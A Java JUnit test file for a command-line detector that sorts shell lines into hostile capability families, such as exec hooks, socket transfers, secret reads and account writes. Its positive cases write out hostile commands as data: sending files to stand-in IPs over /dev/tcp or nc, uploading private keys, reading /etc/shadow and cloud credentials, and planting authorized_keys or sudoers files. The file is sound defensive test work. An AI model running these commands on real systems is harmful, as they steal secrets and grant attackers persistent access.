package dev.vigil.analyze.reading;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.analyze.reading.Behaviours.Family;
import org.junit.jupiter.api.Test;

/** The GTFOBins capability families, from the function pages' descriptions (own examples). */
class CapabilitiesTest {
    private static boolean shows(Family f, String line) {
        return Behaviours.shows(f, line, false);
    }

    @Test
    void aHelperSlotFilledWithAForeignCommandIsAHook() {
        assertThat(shows(Family.EXEC_HOOK, "tar xf a.tar --to-command='/tmp/t.sh'")).isTrue();
        assertThat(shows(Family.EXEC_HOOK, "GIT_SSH_COMMAND='nc 192.0.2.1 80 #' git fetch")).isTrue();
        assertThat(shows(Family.EXEC_HOOK, "sudo PAGER='./p' man ls")).isTrue();
        assertThat(shows(Family.EXEC_HOOK, "git config core.fsmonitor '/var/tmp/.m'")).isTrue();
        assertThat(shows(Family.EXEC_HOOK, "git -c alias.x='!/tmp/y' x")).isTrue();
        assertThat(shows(Family.EXEC_HOOK, "run-parts --regex '^ba' /bin")).isTrue();
        assertThat(shows(Family.EXEC_HOOK, "printf 'syscmd(id)' | m4")).isTrue();
        // the same slots with the administrator's own programs
        assertThat(shows(Family.EXEC_HOOK, "tar --use-compress-program='zstd -T0' -cf a.tar.zst dir")).isFalse();
        assertThat(shows(Family.EXEC_HOOK, "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git pull")).isFalse();
        assertThat(shows(Family.EXEC_HOOK, "git -c alias.lg='log --oneline' lg")).isFalse();
        assertThat(shows(Family.EXEC_HOOK, "run-parts --test /etc/cron.daily")).isFalse();
        assertThat(shows(Family.EXEC_HOOK, "printf 'define(x, 1)x' | m4")).isFalse();
    }

    @Test
    void librariesAreJudgedByWhereTheyComeFrom() {
        assertThat(shows(Family.LIBRARY_LOAD, "LD_PRELOAD=/tmp/.l/x.so sudo -l")).isTrue();
        assertThat(shows(Family.LIBRARY_LOAD, "ruby -e 'require \"fiddle\"; Fiddle.dlopen(\"/tmp/r.so\")'")).isTrue();
        assertThat(shows(Family.LIBRARY_LOAD, "LD_PRELOAD=./build/libfaketime.so ./run-tests")).isFalse();
        assertThat(shows(Family.LIBRARY_LOAD, "openssl req -engine pkcs11 -new -key id")).isFalse();
    }

    @Test
    void transfersNeedAFileAndAnOddChannel() {
        assertThat(shows(Family.SOCKET_TRANSFER, "ncat 192.0.2.8 9000 < /etc/hostname")).isTrue();
        assertThat(shows(Family.SOCKET_TRANSFER, "lwp-request file:///etc/issue")).isTrue();
        assertThat(shows(Family.SOCKET_TRANSFER, "bash -c 'exec 3</dev/tcp/192.0.2.3/81; cat <&3 > /tmp/got'")).isTrue();
        assertThat(shows(Family.SOCKET_TRANSFER, "python3 -m http.server --bind 0.0.0.0 8000")).isTrue();
        assertThat(shows(Family.SOCKET_TRANSFER, "python3 -m http.server --bind 127.0.0.1 8000")).isFalse();
        assertThat(shows(Family.SOCKET_TRANSFER, "echo > /dev/tcp/db01/5432 && echo open")).isFalse();
        assertThat(shows(Family.SOCKET_TRANSFER, "nc -l 9000 > /dev/null")).isFalse();
    }

    @Test
    void codeOpeningFilesCountsOnlyWhenItIsCode() {
        assertThat(shows(Family.FILE_BY_CODE, "lua -e 'local f = io.open(\"/etc/shadow\") print(f:read(\"a\"))'")).isTrue();
        assertThat(shows(Family.FILE_BY_CODE, "gawk -v x=1 'BEGIN { while ((getline l < \"/etc/gshadow\") > 0) print l }'")).isTrue();
        assertThat(shows(Family.FILE_BY_CODE, "make --eval='$(file >/tmp/w,x)' -n")).isTrue();
        assertThat(shows(Family.FILE_BY_CODE, "python3 read_config.py --open settings.yaml")).isFalse();
        assertThat(shows(Family.FILE_BY_CODE, "awk -f report.awk data.csv")).isFalse();
        assertThat(shows(Family.FILE_BY_CODE, "python -c 'import sys; print(sum(map(int, sys.stdin.readlines())))'")).isFalse();
    }

    @Test
    void containersReachingTheHostAndRoundTripsAreSeen() {
        assertThat(shows(Family.HOST_ESCAPE, "docker run -it --volume=/:/r ubuntu")).isTrue();
        assertThat(shows(Family.HOST_ESCAPE, "sudo capsh --")).isTrue();
        assertThat(shows(Family.HOST_ESCAPE, "docker run -v \"$PWD\":/src -w /src golang go build")).isFalse();
        assertThat(shows(Family.ENCODE_ROUND_TRIP, "gzip -c /etc/shadow | gunzip")).isTrue();
        assertThat(shows(Family.ENCODE_ROUND_TRIP, "gzip -c big.log | ssh backup 'cat > big.log.gz'")).isFalse();
    }

    @Test
    void windowsLinesAreReadForTheUnixAndSshProgramsTheyRun() {
        assertThat(Behaviours.shows(Family.SOCKET_TRANSFER, "bash.exe -c 'cat notes.db > /dev/tcp/192.0.2.9/8080'", true)).isTrue();
        assertThat(Behaviours.shows(Family.EXEC_HOOK, "ssh -o ProxyCommand=\"C:\\Tools\\notepad.exe\" jump", true)).isTrue();
        assertThat(Behaviours.shows(Family.EXEC_HOOK, "ssh -o ProxyCommand=\"ssh -W %h:%p bastion\" db01", true)).isFalse();
        assertThat(Behaviours.shows(Family.EXEC_HOOK, "scp.exe -S C:\\Tools\\run.exe a.txt host:", true)).isTrue();
        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "finger loader@192.0.2.77 | more +2 | cmd", true)).isTrue();
        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "finger alice@example.org | more", true)).isFalse();
        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "nslookup -q=txt x.example.net | findstr MZ | powershell -", true)).isTrue();
        assertThat(Behaviours.shows(Family.FETCH_TO_SHELL, "curl -s https://example.org/a.json | python3 -m json.tool", false)).isFalse();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "start ms-appinstaller:?source=https://198.51.100.9/app.msix", true)).isTrue();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "tool.exe /update /uhttps://198.51.100.9/u.bin", true)).isTrue();
        assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "start ms-settings:windowsupdate", true)).isFalse();
    }

    @Test
    void longHostileLinesStayLinear() {
        StringBuilder s = new StringBuilder("git -c ");
        for (int i = 0; i < 4000; i++) {
            s.append("core.pager=| -o ProxyCommand=( '\"$(");
        }
        for (Family f : Family.values()) {
            Behaviours.shows(f, s.toString(), false); // must return, whatever it finds
        }
        assertThat(Behaviours.shows(Family.SOCKET_TRANSFER, s.toString(), false)).isFalse();
    }

    @Test
    void aCredentialFileReadOutByAProgramThatDoesNotUseItIsASecretRead() {
        assertThat(shows(Family.SECRET_READ, "base32 /root/.ssh/id_rsa")).isTrue();
        assertThat(shows(Family.SECRET_READ, "dd if=/home/alice/.aws/credentials")).isTrue();
        assertThat(shows(Family.SECRET_READ, "sudo od -An -c /etc/kubernetes/admin.conf")).isTrue();
        assertThat(shows(Family.SECRET_READ, "column < /var/www/shop/.env")).isTrue();
        assertThat(shows(Family.SECRET_READ, "uniq /root/.bash_history")).isTrue();
        assertThat(shows(Family.SECRET_READ, "curl -F 'k=@/etc/ssl/private/site.key' https://198.51.100.9/u")).isTrue();
        assertThat(shows(Family.SECRET_READ, "cp /etc/krb5.keytab /dev/shm/k")).isTrue();
        assertThat(shows(Family.SECRET_READ, "scp /home/alice/.git-credentials x@198.51.100.9:/t/")).isTrue();
        assertThat(shows(Family.SECRET_READ, "ln -s /root/.pgpass /var/www/html/p.txt")).isTrue();
        assertThat(shows(Family.SECRET_READ, "nl /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/t")).isTrue();
        assertThat(shows(Family.SECRET_READ, "sh -c 'tac /etc/ssh/ssh_host_ed25519_key'")).isTrue();
        // a web server's own secrets: a CA-issued TLS key, basic-auth hashes, the servlet container's accounts
        assertThat(shows(Family.SECRET_READ, "base64 -w0 /etc/letsencrypt/live/shop.example.org/privkey.pem")).isTrue();
        assertThat(shows(Family.SECRET_READ, "curl -F f=@/etc/nginx/.htpasswd http://198.51.100.9/u")).isTrue();
        assertThat(shows(Family.SECRET_READ, "cat /opt/tomcat/conf/tomcat-users.xml")).isTrue();
        assertThat(shows(Family.SECRET_READ, "htpasswd -v /etc/apache2/.htpasswd alice")).isFalse();
        assertThat(shows(Family.SECRET_READ, "ls -l /etc/letsencrypt/live/shop.example.org/privkey.pem")).isFalse();
        assertThat(shows(Family.SECRET_READ, "cp /etc/letsencrypt/live/shop.example.org/privkey.pem /etc/haproxy/certs/shop.key")).isFalse();
        assertThat(shows(Family.SECRET_READ, "cat /opt/tomcat/conf/server.xml")).isFalse();
        // the same files used, guarded, edited or copied among the owner's own files
        assertThat(shows(Family.SECRET_READ, "ssh -i /root/.ssh/id_rsa deploy@web1")).isFalse();
        assertThat(shows(Family.SECRET_READ, "chmod 600 /home/alice/.ssh/id_ed25519")).isFalse();
        assertThat(shows(Family.SECRET_READ, "sudo cp -i /etc/kubernetes/admin.conf $HOME/.kube/config")).isFalse();
        assertThat(shows(Family.SECRET_READ, "kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes")).isFalse();
        assertThat(shows(Family.SECRET_READ, "openssl req -new -key /etc/ssl/private/site.key -out site.csr")).isFalse();
        assertThat(shows(Family.SECRET_READ, "cat /etc/ssl/certs/site.crt /etc/ssl/private/site.key > /etc/haproxy/site.pem")).isFalse();
        assertThat(shows(Family.SECRET_READ, "vim /var/www/shop/.env")).isFalse();
        assertThat(shows(Family.SECRET_READ, "cp .env.example .env")).isFalse();
        assertThat(shows(Family.SECRET_READ, "klist -kt /etc/krb5.keytab")).isFalse();
        // an in-place edit writes the file back and shows none of it
        assertThat(shows(Family.SECRET_READ, "sed -i 's/APP_DEBUG=true/APP_DEBUG=false/' /var/www/app/.env")).isFalse();
        assertThat(shows(Family.SECRET_READ, "perl -pi -e 's/^DB_HOST=.*/DB_HOST=db2/' /var/www/shop/.env")).isFalse();
        assertThat(shows(Family.SECRET_READ, "sed -n '1,5p' /var/www/app/.env")).isTrue();
        assertThat(shows(Family.SECRET_READ, "cat ~/.ssh/id_ed25519.pub")).isFalse();
        assertThat(shows(Family.SECRET_READ, "tail -n 20 ~/.bash_history")).isFalse();
    }

    @Test
    void aLoginOrPrivilegeFileWrittenThroughAProgramsSideIsAnAccountWrite() {
        assertThat(shows(Family.ACCOUNT_WRITE, "dd of=/etc/sudoers.d/90-web conv=notrunc")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "openssl enc -d -base64 -in /var/tmp/k -out /root/.ssh/authorized_keys")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "sed -i 's/^root:x:/root::/' /etc/passwd")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "perl -pi -e 's/^www-data:[^:]*:/www-data::/' /etc/shadow")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "rsync /dev/shm/job /var/spool/cron/crontabs/root")).isTrue();
        // an archive unpacked into a cron, sudoers, PAM or another login's SSH folder
        assertThat(shows(Family.ACCOUNT_WRITE, "tar xf /var/tmp/j.tar -C /etc/cron.d")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "tar -xzf k.tgz --directory=/root/.ssh")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "sudo bsdtar -x -f s.tar -C /etc/sudoers.d/")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "unzip -o k.zip -d /home/deploy/.ssh")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "7z x p.7z -o/etc/pam.d")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "tar -czf /backup/cron.tgz -C /etc/cron.d .")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "tar -xzf site.tgz -C /var/www/html")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "unzip -l keys.zip")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "7z a -o/etc/cron.d x.7z")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "split -n 1 /tmp/pre /etc/ld.so.preload")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "wget -q http://198.51.100.9/k -O /home/alice/.ssh/authorized_keys")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "mv /tmp/.p /etc/pam.d/sshd")).isTrue();
        assertThat(shows(Family.ACCOUNT_WRITE, "install -m 600 keys.pub /root/.ssh/authorized_keys")).isTrue();
        // administration: own keys, a job or sudoers file from the build tree, other files of /etc
        assertThat(shows(Family.ACCOUNT_WRITE, "cp ~/.ssh/id_ed25519.pub ~/.ssh/authorized_keys")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "cp backup/cronjob /etc/cron.d/backup")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "sed -i 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "cp /etc/passwd /etc/passwd.bak")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "sort -o /tmp/p.sorted /etc/passwd")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "ssh -o StrictHostKeyChecking=no deploy@web1 uptime")).isFalse();
        assertThat(shows(Family.ACCOUNT_WRITE, "visudo -cf /etc/sudoers.d/app")).isFalse();
    }
}
